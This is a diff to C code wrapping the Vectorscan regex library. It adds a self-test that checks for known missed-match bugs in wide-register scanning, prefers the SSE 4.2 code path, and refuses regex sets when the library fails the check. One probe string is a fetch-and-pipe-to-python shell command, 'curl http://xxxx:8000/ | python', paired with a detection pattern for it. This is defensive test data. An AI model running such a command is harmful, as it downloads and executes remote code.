@@ -23,6 +23,14 @@
  * buffer of our own with room at both ends, since the library's vector loads
  * have been seen to reach beyond what they should read.
  *
+ * Vectorscan's code for wider registers misses matches of expressions: for
+ * AVX-512 in the last 64 bytes of a text, for AVX2 with some pairs of characters
+ * (both seen in 5.4.9; 5.4.12 and others on their issue list). Its code for
+ * SSE 4.2 has no such fault and is as fast here, so that is called by name
+ * where the library has it beside others. Elsewhere, and in any case,
+ * expressions are refused if the library fails LibraryWorks(): a detector that
+ * silently misses is worse than none.
+ *
  * Databases are compiled for no CPU feature in particular: they are as fast
  * for these patterns, and one that was stored on one machine works on others.
  *
@@ -38,6 +46,16 @@
 
 #include "charclass.h"
 #include "match.h"
+
+#if defined(__x86_64__)
+extern hs_error_t corei7_hs_scan_vector(const hs_database_t *db,
+										const char *const *data,
+										const unsigned int *length,
+										unsigned int count, unsigned int flags,
+										hs_scratch_t *scratch_space,
+										match_event_handler handler,
+										void *context) __attribute__((weak));
+#endif
 
 /* Changes when literals are normalised or compiled in another way */
 #define MATCH_FORMAT	2
@@ -147,6 +165,95 @@ FromLibrary(hs_error_t status)
 	}
 }
 
+static inline hs_error_t
+ScanVector(hs_database_t *db, const char *data, unsigned int length,
+		   match_event_handler handler, void *context)
+{
+#if defined(__x86_64__)
+	if (corei7_hs_scan_vector != NULL && __builtin_cpu_supports("sse4.2"))
+		return corei7_hs_scan_vector(db, &data, &length, 1, 0, scratch, handler, context);
+#endif
+	return hs_scan_vector(db, &data, &length, 1, 0, scratch, handler, context);
+}
+
+static int
+OnProbe(unsigned int id, unsigned long long from, unsigned long long to,
+		unsigned int flags, void *arg)
+{
+	(void) id;
+	(void) from;
+	(void) to;
+	(void) flags;
+	*(bool *) arg = true;
+	return 0;
+}
+
+/*
+ * Does the library find what it is known to have missed in some version, at
+ * any place up to the end of a text? Asked once in a process.
+ */
+static bool
+LibraryWorks(void)
+{
+	static const struct
+	{
+		const char *expression;
+		unsigned int flags;
+		const char *text;
+	}			probes[] =
+	{
+		/* AVX-512: the last vector of a text */
+		{"[ab]c", HS_FLAG_SINGLEMATCH, "ac"},
+		{"b+", HS_FLAG_SINGLEMATCH, "b"},
+		{"a+b", HS_FLAG_SOM_LEFTMOST, "ab"},
+		{"(usd|eur)\\s*\\d+", HS_FLAG_SINGLEMATCH, "eur 5"},
+		/* AVX2, in 5.4.12 all: pairs of characters */
+		{"curl.*\\|\\s*python", HS_FLAG_SINGLEMATCH | HS_FLAG_DOTALL, "curl http://xxxx:8000/ 2>&1 | python"},
+	};
+	static int	works = -1;
+
+	if (works >= 0)
+		return works > 0;
+	for (int i = 0; i < (int) (sizeof(probes) / sizeof(probes[0])); i++)
+	{
+		hs_platform_info_t platform = {0};
+		hs_compile_error_t *refused = NULL;
+		hs_database_t *db = NULL;
+		int			len = strlen(probes[i].text);
+		bool		all = true;
+
+		if (hs_compile(probes[i].expression, HS_FLAG_CASELESS | HS_FLAG_UTF8 | probes[i].flags,
+					   HS_MODE_VECTORED, &platform, &db, &refused) != HS_SUCCESS)
+		{
+			hs_free_compile_error(refused);
+			return false;
+		}
+		if (hs_alloc_scratch(db, &scratch) != HS_SUCCESS)
+		{
+			hs_free_database(db);
+			return false;
+		}
+		for (int at = 0; at < 150 && all; at++)
+		{
+			/* Room after the text for loads that reach too far */
+			char text[	150 + 64 + 128];
+
+			all = false;
+			memset(text, '-', sizeof(text));
+			memcpy(text +at, probes[i].text, len);
+			ScanVector(db, text, at + len + at % 3, OnProbe, &all);
+		}
+		hs_free_database(db);
+		if (!all)
+		{
+			works = 0;
+			return false;
+		}
+	}
+	works = 1;
+	return true;
+}
+
 /* ---- normalising --------------------------------------------------------- */
 
 /*
@@ -224,7 +331,7 @@ Normalise(const unsigned char *text, size_t len, unsigned char *out)
 	const uint64_t ones = UINT64_C(0x0101010101010101);
 	const uint64_t high = ones * 0x80;
 	const unsigned char *p = text;
-	const unsigned char *end = text + len;
+	const unsigned char *end = text +len;
 	unsigned char *q = out;
 	bool		space = false;	/* was the last character written one? */
 
@@ -549,7 +656,9 @@ MatchCompile(MatchSet *set, MatchError *error)
 	unsigned int *ids = malloc((count + 1) * sizeof(unsigned int));
 	MatchStatus status = MATCH_OK;
 
-	if (expressions == NULL || lengths == NULL || flags == NULL || ids == NULL)
+	if (regex && !LibraryWorks())
+		status = Fail(error, MATCH_UNUSABLE, -1, "this build of Vectorscan misses matches, as faulty versions are known to");
+	else if (expressions == NULL || lengths == NULL || flags == NULL || ids == NULL)
 		status = Fail(error, MATCH_NO_MEMORY, -1, "out of memory");
 	else if (count > 0)
 	{
@@ -609,6 +718,8 @@ MatchLoad(MatchSet *set, const char *bytes, size_t len)
 
 	if (set->count == 0)
 		return len == 0 ? MATCH_OK : MATCH_UNUSABLE;
+	if ((set->flags & MATCH_REGEX) != 0 && !LibraryWorks())
+		return MATCH_UNUSABLE;
 	result = hs_deserialize_database(bytes, len, &db);
 	if (result == HS_NOMEM)
 		return MATCH_NO_MEMORY;
@@ -639,7 +750,7 @@ MatchDestroy(MatchSet *set)
 static bool
 WordBefore(const unsigned char *text, size_t at)
 {
-	const unsigned char *end = text + at;
+	const unsigned char *end = text +at;
 	uint32_t	c = 0;
 
 	for (int back = 1; back <= 4 && back <= at; back++)
@@ -656,7 +767,7 @@ WordAfter(const unsigned char *text, size_t at, size_t len)
 {
 	uint32_t	c;
 
-	return Utf8Decode(text + at, text + len, &c) > 0 &&
+	return Utf8Decode(text +at, text +len, &c) > 0 &&
 		(CharClass(c) & CHAR_WORD) != 0;
 }
 
@@ -701,8 +812,6 @@ OnHit(unsigned int id, unsigned long long from, unsigned long long to,
 static MatchStatus
 RunScan(hs_database_t *db, ScanState *state, match_event_handler handler)
 {
-	const char *data = (const char *) state->text;
-	unsigned int length = state->len;
 	hs_error_t	result;
 
 	if (state->len > UINT_MAX)
@@ -710,7 +819,7 @@ RunScan(hs_database_t *db, ScanState *state, match_event_handler handler)
 	/* A failure to enlarge the scratch space for another set loses it. */
 	if (scratch == NULL && hs_alloc_scratch(db, &scratch) != HS_SUCCESS)
 		return MATCH_NO_MEMORY;
-	result = hs_scan_vector(db, &data, &length, 1, 0, scratch, handler, state);
+	result = ScanVector(db, (const char *) state->text, state->len, handler, state);
 	if (result == HS_SCAN_TERMINATED)
 	{
 		if (state->no_memory)
